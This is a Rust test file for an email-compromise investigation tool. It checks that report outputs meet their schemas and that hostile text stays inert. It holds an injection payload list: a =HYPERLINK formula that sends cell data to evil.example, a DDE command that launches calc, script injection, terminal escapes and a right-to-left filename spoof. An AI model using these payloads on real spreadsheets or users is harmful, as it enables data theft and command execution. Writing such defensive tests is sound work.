//! The files of a report, read back as their users read them: a spreadsheet reader, a CSV parser, the published schemas.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use calamine::{Data, Range, Reader as _, Xlsx, open_workbook};
use chrono::{DateTime, Utc};
use serde_json::Value;

use crate::harness::{bectrace, root, testdata};
use crate::json_schema::{Unnamed, problems};

const SHEETS: [&str; 9] =
    ["Summary", "Findings", "Timeline", "Sign-ins", "Addresses", "Exposure", "Response", "Evidence", "Coverage"];

/// What one run left in its folder.
struct Run {
    exit: u8,
    dir: tempfile::TempDir,
}

impl Run {
    fn of(evidence: &str, user: &str, formats: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("out").display().to_string();
        let words = ["investigate", evidence, "--user", user, "--out", &out, "--format", formats, "-q"];
        let outcome = bectrace(&words);
        assert!(Path::new(&out).join("report.json").exists(), "exit {}: {}", outcome.exit, outcome.err);
        Self { exit: outcome.exit, dir }
    }

    fn contoso(user: &str) -> Self {
        Self::of(&testdata("cases/contoso/evidence").display().to_string(), user, "all")
    }

    fn path(&self, name: &str) -> std::path::PathBuf {
        self.dir.path().join("out").join(name)
    }

    fn text(&self, name: &str) -> String {
        std::fs::read_to_string(self.path(name)).unwrap_or_else(|error| panic!("{name}: {error}"))
    }

    fn json(&self, name: &str) -> Value {
        serde_json::from_str(&self.text(name)).unwrap()
    }

    fn lines(&self, name: &str) -> Vec<Value> {
        self.text(name).lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    }

    fn csv(&self, name: &str) -> Vec<BTreeMap<String, String>> {
        let mut reader = csv::Reader::from_path(self.path(name)).unwrap();
        let heads = reader.headers().unwrap().clone();
        let rows = reader.records().map(|row| row.unwrap());
        rows.map(|row| heads.iter().map(str::to_owned).zip(row.iter().map(str::to_owned)).collect()).collect()
    }

    fn files(&self) -> BTreeSet<String> {
        let entries = std::fs::read_dir(self.dir.path().join("out")).unwrap();
        entries.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect()
    }

    fn workbook(&self) -> Xlsx<std::io::BufReader<std::fs::File>> {
        open_workbook(self.path("report.xlsx")).unwrap()
    }
}

fn published(name: &str) -> Value {
    serde_json::from_slice(&std::fs::read(testdata("published").join(name)).unwrap()).unwrap()
}

/// The place of a column by its head.
fn column(sheet: &Range<Data>, head: &str) -> usize {
    let heads = sheet.rows().next().unwrap();
    heads.iter().position(|cell| *cell == *head).unwrap_or_else(|| panic!("no column {head} in {heads:?}"))
}

fn cell<'s>(sheet: &'s Range<Data>, row: usize, head: &str) -> &'s Data {
    sheet.get((row, column(sheet, head))).unwrap_or(&Data::Empty)
}

fn all_cases() -> Vec<Run> {
    let empty = tempfile::NamedTempFile::with_suffix(".csv").unwrap();
    vec![
        Run::contoso("alice.mori@contoso.example"),
        Run::contoso("bob.lindt@contoso.example"),
        Run::contoso("nobody@contoso.example"),
        Run::of(&testdata("background").display().to_string(), "dana.weiss@fabrikam.example", "all"),
        Run::of(&testdata("formats").display().to_string(), "dana.weiss@fabrikam.example", "all"),
        Run::of(&empty.path().display().to_string(), "dana.weiss@fabrikam.example", "all"),
        hostile(),
    ]
}

#[test]
fn every_output_is_what_its_published_schema_says() {
    let report_schema: Value =
        serde_json::from_slice(&std::fs::read(root().join("docs/schemas/report.schema.json")).unwrap()).unwrap();
    let (ecs, ocsf, stix) = (published("ecs-8.11.0.json"), published("ocsf-1.5.0.json"), published("stix-2.1.json"));
    for (number, run) in all_cases().iter().enumerate() {
        let mut wrong = problems(&report_schema, &report_schema, &run.json("report.json"), Unnamed::Refused);
        let bundle = run.json("indicators.stix.json");
        wrong.extend(problems(&stix, &stix["bundle"], &bundle, Unnamed::Allowed));
        wrong.extend(stix_reasoned(&bundle));
        for file in ["timeline.ecs.jsonl", "findings.ecs.jsonl"] {
            run.lines(file).iter().for_each(|document| wrong.extend(ecs_problems(&ecs, document)));
        }
        for file in ["timeline.ocsf.jsonl", "findings.ocsf.jsonl"] {
            run.lines(file).iter().for_each(|event| wrong.extend(ocsf_problems(&ocsf, event)));
        }
        wrong.sort();
        wrong.dedup();
        assert!(wrong.is_empty(), "case {number}:\n{}", wrong.join("\n"));
        let events = run.json("report.json")["timeline"]["events"].as_u64().unwrap() as usize;
        for file in ["timeline.ecs.jsonl", "timeline.ocsf.jsonl", "timeline.timesketch.jsonl"] {
            assert_eq!(run.lines(file).len(), events, "case {number}: {file}");
        }
        assert_eq!(run.csv("timeline.csv").len(), events, "case {number}");
        timesketch_rules(run);
        let findings = run.csv("findings.csv").len();
        assert_eq!(run.lines("findings.ecs.jsonl").len(), findings, "case {number}");
        assert_eq!(run.lines("findings.ocsf.jsonl").len(), findings, "case {number}");
    }
}

/// Every field outside of our own name space is one of the schema, of its type; the four categorization fields hold
/// allowed values, and types that the categories expect.
fn ecs_problems(schema: &Value, document: &Value) -> Vec<String> {
    let mut wrong = Vec::new();
    for name in ["@timestamp", "ecs", "event", "message"] {
        if document.get(name).is_none() {
            wrong.push(format!("ECS: no {name}"));
        }
    }
    let mut leaves = Vec::new();
    flatten("", document, &mut leaves);
    for (path, value) in leaves.iter().filter(|(path, _)| !path.starts_with("bectrace.")) {
        match schema["fields"][path].as_str() {
            None => wrong.push(format!("ECS has no field {path}")),
            Some(kind) if !ecs_type(kind, value) => wrong.push(format!("ECS: {path} is no {kind}: {value}")),
            Some(_) => {}
        }
    }
    let event = &document["event"];
    for name in ["kind", "outcome"] {
        if !schema["allowed"][format!("event.{name}")].as_array().unwrap().contains(&event[name]) {
            wrong.push(format!("ECS: event.{name} {}", event[name]));
        }
    }
    let categories = event["category"].as_array().unwrap();
    let expected: Vec<&Value> = categories
        .iter()
        .flat_map(|name| schema["expected_types"][name.as_str().unwrap()].as_array().unwrap())
        .collect();
    for kind in event["type"].as_array().unwrap() {
        if !expected.contains(&kind) {
            wrong.push(format!("ECS: event.type {kind} with {categories:?}"));
        }
    }
    wrong
}

fn flatten(path: &str, value: &Value, leaves: &mut Vec<(String, Value)>) {
    match value {
        // A point is one value of type geo_point.
        Value::Object(map) if path != "source.geo.location" => {
            for (name, value) in map {
                let path = if path.is_empty() { name.clone() } else { format!("{path}.{name}") };
                flatten(&path, value, leaves);
            }
        }
        value => leaves.push((path.to_owned(), value.clone())),
    }
}

fn ecs_type(kind: &str, value: &Value) -> bool {
    if let Some(item) = kind.strip_suffix("[]") {
        return value.as_array().is_some_and(|list| list.iter().all(|value| ecs_type(item, value)));
    }
    match kind {
        "keyword" | "wildcard" | "match_only_text" | "constant_keyword" | "text" => value.is_string(),
        "long" => value.is_i64(),
        "date" => value.as_str().is_some_and(|text| DateTime::parse_from_rfc3339(text).is_ok()),
        "ip" => value.as_str().is_some_and(|text| text.parse::<std::net::IpAddr>().is_ok()),
        "geo_point" => value["lat"].is_number() && value["lon"].is_number(),
        other => panic!("the test does not know the type {other}"),
    }
}

fn ocsf_problems(schema: &Value, event: &Value) -> Vec<String> {
    let classes = schema["classes"].as_object().unwrap();
    let uid = &event["class_uid"];
    let class = classes.values().find(|class| class["properties"]["class_uid"]["const"] == *uid);
    let Some(class) = class else { return vec![format!("OCSF: no class {uid}")] };
    let mut wrong: Vec<String> = problems(schema, class, event, Unnamed::Allowed)
        .into_iter()
        .map(|problem| format!("OCSF {uid}: {problem}"))
        .collect();
    let number = |name: &str| event[name].as_i64().unwrap();
    if number("type_uid") != number("class_uid") * 100 + number("activity_id") {
        wrong.push(format!("OCSF: type_uid {}", event["type_uid"]));
    }
    if number("category_uid") != number("class_uid") / 1000 {
        wrong.push(format!("OCSF: category_uid {}", event["category_uid"]));
    }
    wrong
}

/// What the JSON schema of STIX cannot say: ids are unique, references lead somewhere, patterns are one comparison with
/// a closed literal, times are the evidence's.
fn stix_reasoned(bundle: &Value) -> Vec<String> {
    let objects = bundle["objects"].as_array().unwrap();
    let ids: BTreeSet<&str> = objects.iter().map(|object| object["id"].as_str().unwrap()).collect();
    let mut wrong = Vec::new();
    if ids.len() != objects.len() {
        wrong.push("STIX: an id stands twice".to_owned());
    }
    let comparison = regex::Regex::new(r"^\[[a-z0-9-]+:[a-z_]+ = '([^'\\]|\\['\\])*'\]$").unwrap();
    for object in objects.iter().filter(|object| object["type"] == "indicator") {
        let pattern = object["pattern"].as_str().unwrap();
        if !comparison.is_match(pattern) {
            wrong.push(format!("STIX: {pattern}"));
        }
        if !ids.contains(object["created_by_ref"].as_str().unwrap()) {
            wrong.push("STIX: created_by_ref leads nowhere".to_owned());
        }
        if object["created"] != object["valid_from"] || object["modified"].as_str() < object["created"].as_str() {
            wrong.push("STIX: times".to_owned());
        }
    }
    wrong
}

/// The rules of Timesketch's importers (`read_and_validate_csv` and `read_and_validate_jsonl` of its `lib/utils.py`):
/// three fields of every event, a time that can be read, tags as a list, no null; keys of its own would be dropped.
fn timesketch_rules(run: &Run) {
    let (lines, rows) = (run.lines("timeline.timesketch.jsonl"), run.csv("timeline.csv"));
    assert_eq!(lines.len(), rows.len());
    for (line, row) in lines.iter().zip(&rows) {
        for name in ["message", "datetime", "timestamp_desc"] {
            assert!(line[name].as_str().is_some_and(|text| !text.is_empty()), "{name} of {line}");
            assert!(!row[name].trim().is_empty(), "{name} of {row:?}");
            // What pandas takes for a missing value.
            assert!(!["NA", "N/A", "NaN", "nan", "null", "NULL", "None", "n/a"].contains(&&*row[name]), "{row:?}");
        }
        let read = |text: &str| DateTime::parse_from_rfc3339(text).unwrap().to_utc();
        let time = line["datetime"].as_str().unwrap();
        assert_eq!(read(time), read(&row["datetime"]));
        assert!(time.ends_with("+00:00"), "{time}");
        assert!(line["tag"].is_array());
        let fields = line.as_object().unwrap();
        assert!(fields.values().all(|value| !value.is_null()), "{line}");
        let own = ["_id", "_type", "_index", "_source", "__ts_timeline_id", "timestamp"];
        assert!(!own.iter().any(|name| fields.contains_key(*name) || row.contains_key(*name)));
    }
}

/// The traces that the story planted: three addresses of the attacker, where mail went, what was sent.
#[test]
fn stix_names_the_attackers_traces_and_nobody_elses() {
    let run = Run::contoso("alice.mori@contoso.example");
    let bundle = run.json("indicators.stix.json");
    let patterns: Vec<&str> =
        bundle["objects"].as_array().unwrap().iter().filter_map(|object| object["pattern"].as_str()).collect();
    for expected in [
        "[ipv4-addr:value = '203.0.113.7']",
        "[ipv4-addr:value = '203.0.113.44']",
        "[email-addr:value = 'collect@mailbox-backup.example']",
        "[email-addr:value = 'alice.mori@mailbox-backup.example']",
        "[domain-name:value = 'mailbox-backup.example']",
    ] {
        assert!(patterns.contains(&expected), "{expected} is missing in {patterns:?}");
    }
    // Thirteen lures were sent, and nothing else of Alice's is the attacker's.
    let messages = patterns.iter().filter(|pattern| pattern.starts_with("[email-message:message_id")).count();
    assert_eq!(messages, 13);
    let own = ["192.0.2.10", "198.51.100.21", "contoso.example']", "[.]"];
    assert!(
        !patterns.iter().any(|pattern| own.iter().any(|own| pattern.contains(own) && !pattern.contains("message_id")))
    );
    let innocent = Run::contoso("bob.lindt@contoso.example").json("indicators.stix.json");
    assert_eq!(innocent["objects"].as_array().unwrap().len(), 1, "the tool itself, and no trace");
}

#[test]
fn ocsf_and_ecs_sort_events_as_their_schemas_mean_it() {
    let run = Run::contoso("alice.mori@contoso.example");
    let (ecs, ocsf, csv) = (run.lines("timeline.ecs.jsonl"), run.lines("timeline.ocsf.jsonl"), run.csv("timeline.csv"));
    let mut seen = BTreeSet::new();
    for ((row, document), event) in csv.iter().zip(&ecs).zip(&ocsf) {
        let kind = (event["class_uid"].as_i64().unwrap(), event["activity_id"].as_i64().unwrap());
        let (category, types) = (&document["event"]["category"], &document["event"]["type"]);
        let expected = match row["action"].as_str() {
            "UserLoggedIn" | "UserLoginFailed" | "Sign-in activity" => Some(((3002, 1), "authentication", "start")),
            "Change user password" => Some(((3001, 3), "iam", "change")),
            "Reset user password" => Some(((3001, 4), "iam", "change")),
            "Send" => Some(((4009, 1), "email", "info")),
            "MailItemsAccessed" => Some(((6003, 2), "email", "access")),
            "SoftDelete" | "HardDelete" => Some(((6003, 4), "email", "deletion")),
            "New-InboxRule" => Some(((6003, 1), "configuration", "creation")),
            "FileDownloaded" => Some(((6006, 2), "file", "access")),
            "AlertTriggered" => Some(((2004, 1), "intrusion_detection", "info")),
            _ => None,
        };
        let Some((class, wanted, kind_of)) = expected else { continue };
        seen.insert(row["action"].clone());
        assert_eq!(kind, class, "{}", row["action"]);
        assert_eq!(category[0], wanted, "{}", row["action"]);
        assert!(types.as_array().unwrap().contains(&kind_of.into()), "{}: {types}", row["action"]);
        let time: DateTime<Utc> = row["datetime"].parse().unwrap();
        assert_eq!(event["time"], time.timestamp_millis());
        let outcome = if row["outcome"] == "interrupted" { "unknown" } else { row["outcome"].as_str() };
        assert_eq!(document["event"]["outcome"], outcome);
    }
    assert!(seen.len() >= 10, "{seen:?}");
}

#[test]
fn the_workbook_has_its_sheets_with_typed_cells() {
    let run = Run::contoso("alice.mori@contoso.example");
    let mut book = run.workbook();
    assert_eq!(book.sheet_names(), SHEETS);
    let (csv, findings) = (run.csv("timeline.csv"), run.csv("findings.csv"));
    let timeline = book.worksheet_range("Timeline").unwrap();
    assert_eq!(timeline.height(), 1 + csv.len());
    for (number, row) in (1..).zip(&csv) {
        let Data::DateTime(time) = cell(&timeline, number, "datetime (UTC)") else {
            panic!("row {number} has no date")
        };
        let expected: DateTime<Utc> = row["datetime"].parse().unwrap();
        let found = (time.as_f64() - 25_569.0) * 86_400_000.0;
        assert!((found - expected.timestamp_millis() as f64).abs() < 1.0, "row {number}");
        assert_eq!(cell(&timeline, number, "source_row"), &Data::Float(row["source_row"].parse().unwrap()));
        assert_eq!(cell(&timeline, number, "action").to_string(), row["action"]);
        assert_eq!(cell(&timeline, number, "raw_sha256").to_string(), row["raw_sha256"]);
    }
    let sheet = book.worksheet_range("Findings").unwrap();
    assert_eq!(sheet.height(), 1 + findings.len());
    for (number, row) in (1..).zip(&findings) {
        assert_eq!(cell(&sheet, number, "Finding").to_string(), row["id"]);
        assert_eq!(cell(&sheet, number, "Sum"), &Data::Float(row["score"].parse().unwrap()));
        assert!(matches!(cell(&sheet, number, "Time (UTC)"), Data::DateTime(_)));
    }
    let report = run.json("report.json");
    let evidence = book.worksheet_range("Evidence").unwrap();
    for (number, file) in (1..).zip(report["evidence"].as_array().unwrap()) {
        assert_eq!(cell(&evidence, number, "SHA-256").to_string(), file["sha256"].as_str().unwrap());
        assert_eq!(cell(&evidence, number, "Records"), &Data::Float(file["records"].as_f64().unwrap()));
    }
    assert_eq!(book.worksheet_range("Response").unwrap().height(), 1 + 7);
    assert_eq!(book.worksheet_range("Coverage").unwrap().height(), 1 + report["coverage"].as_array().unwrap().len());
    let signed = csv.iter().filter(|row| row["timestamp_desc"].starts_with("Last Login")).count();
    assert_eq!(book.worksheet_range("Sign-ins").unwrap().height(), 1 + signed);
    let addresses = book.worksheet_range("Addresses").unwrap();
    let theirs: BTreeSet<String> = (1..addresses.height())
        .filter(|row| cell(&addresses, *row, "In the attacker set") == &Data::Bool(true))
        .map(|row| cell(&addresses, row, "Value").to_string())
        .collect();
    assert!(theirs.contains("203.0.113.7") && !theirs.contains("192.0.2.10"), "{theirs:?}");
}

#[test]
fn only_the_named_formats_are_written() {
    let evidence = testdata("background").display().to_string();
    let always = ["SHA256SUMS", "case", "manifest.json", "rejects.jsonl", "report.json"];
    for (formats, more) in [
        ("xlsx", &["report.xlsx"][..]),
        ("json", &[]),
        ("ecs,stix", &["findings.ecs.jsonl", "indicators.stix.json", "timeline.ecs.jsonl"]),
        ("ocsf", &["findings.ocsf.jsonl", "timeline.ocsf.jsonl"]),
        (
            "default",
            &[
                "findings.csv",
                "report.html",
                "report.xlsx",
                "timeline.csv",
                "timeline.parquet",
                "timeline.timesketch.jsonl",
            ],
        ),
    ] {
        let run = Run::of(&evidence, "dana.weiss@fabrikam.example", formats);
        let expected: BTreeSet<String> = always.iter().chain(more).map(|&name| name.to_owned()).collect();
        assert_eq!(run.files(), expected, "--format {formats}");
    }
    assert_eq!(bectrace(&["investigate", &evidence, "--user", "a@b.example", "--out", "x", "--format", "doc"]).exit, 2);
}

/// Texts that try everything: each is the subject of one mail.
fn hostile_subjects() -> Vec<String> {
    let texts = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Invoice\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "'=1+1",
        "''",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\u{1b}[31mred\u{1b}]0;title\u{7}\u{9b}2J",
        "invoice\u{202e}fdp.exe\u{2066}\u{200f}",
        "nul\0in the middle",
        "\u{1}\u{8}\u{b}\u{c}\u{e}\u{1f}\u{7f}\u{85}\u{fffe}\u{ffff}\u{2028}",
        "_x0041_ _x005F_",
        "]]><script>alert(1)</script><!--",
        "quotes \" and , commas\r\nand; lines\u{0}",
        "a' OR [x:y = 'b\\'",
        "受信トレイ 👩\u{200d}💻 e\u{301}",
        " leading and trailing ",
        "null",
        "NaN",
        "1e999",
    ];
    let mut subjects: Vec<String> = texts.map(str::to_owned).to_vec();
    subjects.push("=".repeat(1 << 20));
    subjects.push("🦀".repeat(20_000));
    subjects
}

/// Mails with hostile subjects, folders, clients and ids; one with half a surrogate pair, which is no text at all.
fn hostile_evidence() -> String {
    let background = std::fs::read_to_string(testdata("background/ual.ndjson")).unwrap();
    let mail = background.lines().find(|line| line.contains("\"Operation\":\"Send\"") && line.contains("dana.weiss"));
    let mail: Value = serde_json::from_str(mail.unwrap()).unwrap();
    let mut lines = Vec::new();
    for (number, subject) in hostile_subjects().into_iter().enumerate() {
        let mut mail = mail.clone();
        mail["CreationTime"] = format!("2026-01-05T10:{number:02}:00").into();
        mail["Id"] = format!("00000000-0000-4000-8000-{number:012}").into();
        mail["Item"]["Subject"] = subject.clone().into();
        if subject.len() < 1000 {
            mail["Item"]["InternetMessageId"] = format!("<{subject}@evil.example>").into();
            mail["Item"]["ParentFolder"]["Path"] = subject.clone().into();
            mail["ClientInfoString"] = subject.into();
        }
        lines.push(mail.to_string());
    }
    let mut half = mail;
    half["Id"] = "00000000-0000-4000-8000-0000000000ff".into();
    half["Item"]["Subject"] = "HALF".into();
    lines.push(half.to_string().replace("HALF", "cut \\ud83d off"));
    lines.join("\n") + "\n"
}

fn hostile() -> Run {
    let evidence = tempfile::Builder::new().suffix(".ndjson").tempfile().unwrap();
    std::fs::write(evidence.path(), hostile_evidence()).unwrap();
    Run::of(&evidence.path().display().to_string(), "dana.weiss@fabrikam.example", "all")
}

#[test]
fn hostile_text_is_kept_and_cannot_act() {
    let run = hostile();
    // Outer blanks of a subject are not kept.
    let subjects: Vec<String> = hostile_subjects().iter().map(|subject| subject.trim().to_owned()).collect();
    let report = run.json("report.json");
    let ledger = &report["ledger"];
    assert_eq!(ledger["records"], subjects.len() as u64 + 1, "every record is accounted for");
    // Half a surrogate pair is no text: what stands around it is read, and the record is marked.
    let csv = run.csv("timeline.csv");
    let half = csv.iter().find(|row| row["event_id"].ends_with("ff")).unwrap();
    assert_eq!((&*half["email_subject"], &*half["parse_status"]), ("cut \u{fffd} off", "partial"));
    assert_eq!(half["parse_notes"], "R-116");
    assert_eq!((&ledger["rejected"], run.exit), (&Value::from(0), 0));

    for name in run.files() {
        if ["json", "jsonl", "csv", "html"].iter().any(|end| name.ends_with(end)) {
            let text = run.text(&name);
            let acting = |c: char| {
                c.is_control() && !matches!(c, '\n' | '\r' | '\t') || matches!(c, '\u{202e}' | '\u{2066}' | '\u{200f}')
            };
            assert!(!text.contains(acting), "{name} holds a character that acts");
        }
    }

    // Machine formats hold the very text.
    let by_id = |id: &str| id.starts_with("00000000-0000-4000-8000-") && !id.ends_with("ff");
    let ecs: Vec<String> = run
        .lines("timeline.ecs.jsonl")
        .iter()
        .filter(|document| by_id(document["event"]["id"].as_str().unwrap_or_default()))
        .map(|document| document["email"]["subject"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(ecs, subjects);
    let timesketch: Vec<String> = run
        .lines("timeline.timesketch.jsonl")
        .iter()
        .filter(|line| by_id(line["event_id"].as_str().unwrap_or_default()))
        .map(|line| line["email_subject"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(timesketch, subjects);

    // A spreadsheet never gets a formula, and the guard can be taken away again.
    let cells: Vec<&String> =
        csv.iter().filter(|row| by_id(&row["event_id"])).map(|row| &row["email_subject"]).collect();
    assert_eq!(cells.len(), subjects.len());
    for (cell, subject) in cells.iter().zip(&subjects) {
        let signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
        assert!(!cell.starts_with(signs), "{:?}", cell.chars().take(20).collect::<String>());
        if !subject.contains(|c: char| c.is_control() || "\u{202e}\u{2066}\u{200f}".contains(c)) {
            let bare = cell.strip_prefix('\'').filter(|rest| rest.trim_start_matches('\'').starts_with(signs));
            assert_eq!(bare.unwrap_or(cell), subject);
        }
    }
}

#[test]
fn hostile_text_in_the_workbook_is_text() {
    let run = hostile();
    let mut book = run.workbook();
    for name in SHEETS {
        let formulas = book.worksheet_formula(name).unwrap();
        assert!(formulas.cells().all(|(_, _, formula)| formula.is_empty()), "{name} has a formula");
    }
    let sheet = book.worksheet_range("Timeline").unwrap();
    let subjects: Vec<String> = hostile_subjects().iter().map(|subject| subject.trim().to_owned()).collect();
    let mut seen = 0;
    for row in 1..sheet.height() {
        let id = cell(&sheet, row, "event_id").to_string();
        let Some(number) = id.strip_prefix("00000000-0000-4000-8000-").and_then(|number| number.parse::<usize>().ok())
        else {
            continue;
        };
        let Some(subject) = subjects.get(number) else { continue };
        let Data::String(shown) = cell(&sheet, row, "email_subject") else { panic!("{subject} is no text") };
        seen += 1;
        assert!(shown.encode_utf16().count() <= 32_767);
        if subject.encode_utf16().count() > 32_767 {
            let cut = shown.split(" [cut here: ").next().unwrap();
            assert!(subject.starts_with(cut) && cut.len() > 30_000);
            let characters = subject.chars().count();
            assert!(
                shown.ends_with(&format!(
                    "[cut here: {characters} characters in all, the whole text is in timeline.csv]"
                ))
            );
        } else if !subject.contains(|c: char| {
            (c.is_control() && c != '\n') || "\u{202e}\u{2066}\u{200f}\u{200d}\u{2028}\u{fffe}\u{ffff}".contains(c)
        }) {
            assert_eq!(shown, subject);
        }
    }
    assert_eq!(seen, subjects.len());
    let summary = book.worksheet_range("Summary").unwrap();
    let told = summary.cells().map(|(_, _, cell)| cell.to_string());
    let told = told.filter(|text| text.starts_with("Timeline: ") && text.contains("hold more text")).count() == 1;
    assert!(told, "the first sheet tells of cut cells");
}

/// Only the types that every engine reads: no unsigned 64-bit integers, no times of day, microseconds and no finer.
#[test]
fn the_parquet_file_has_types_that_every_engine_reads() {
    use polars::prelude::{DataType, SerReader as _, TimeUnit, TimeZone};
    let run = hostile();
    let file = std::fs::File::open(run.path("timeline.parquet")).unwrap();
    let frame = polars_io::parquet::read::ParquetReader::new(file).finish().unwrap();
    assert_eq!(frame.height() as u64, run.json("report.json")["timeline"]["events"].as_u64().unwrap());
    let subjects = frame.column("email_subject").unwrap().str().unwrap();
    assert!(subjects.iter().flatten().any(|subject| subject.len() == 1 << 20), "nothing is cut");
    for column in frame.columns() {
        let (name, kind) = (column.name(), column.dtype());
        let read_by_all = matches!(kind, DataType::String | DataType::Int64 | DataType::Float64 | DataType::Boolean)
            || *kind == DataType::Datetime(TimeUnit::Microseconds, Some(TimeZone::UTC));
        assert!(read_by_all, "{name} is {kind}");
    }
}

/// Two runs over the same evidence, one with a single thread: every file but the manifest (and the sums over it) has
/// the same bytes.
#[test]
fn every_format_has_the_same_bytes_again() {
    let evidence = testdata("cases/contoso/evidence").display().to_string();
    let dir = tempfile::tempdir().unwrap();
    let outs = ["a", "b"].map(|name| dir.path().join(name));
    for (out, threads) in outs.iter().zip(["1", "4"]) {
        let out = out.display().to_string();
        let words = [
            "investigate",
            &evidence,
            "--user",
            "alice.mori@contoso.example",
            "--out",
            &out,
            "--format",
            "all",
            "-q",
            "--threads",
            threads,
        ];
        assert_eq!(bectrace(&words).exit, 0);
    }
    for entry in std::fs::read_dir(&outs[0]).unwrap().map(Result::unwrap).filter(|entry| entry.path().is_file()) {
        let name = entry.file_name();
        if name == "manifest.json" || name == "SHA256SUMS" {
            continue;
        }
        let [a, b] = [&outs[0], &outs[1]].map(|out| std::fs::read(out.join(&name)).unwrap());
        assert!(a == b, "{} differs", name.display());
    }
}
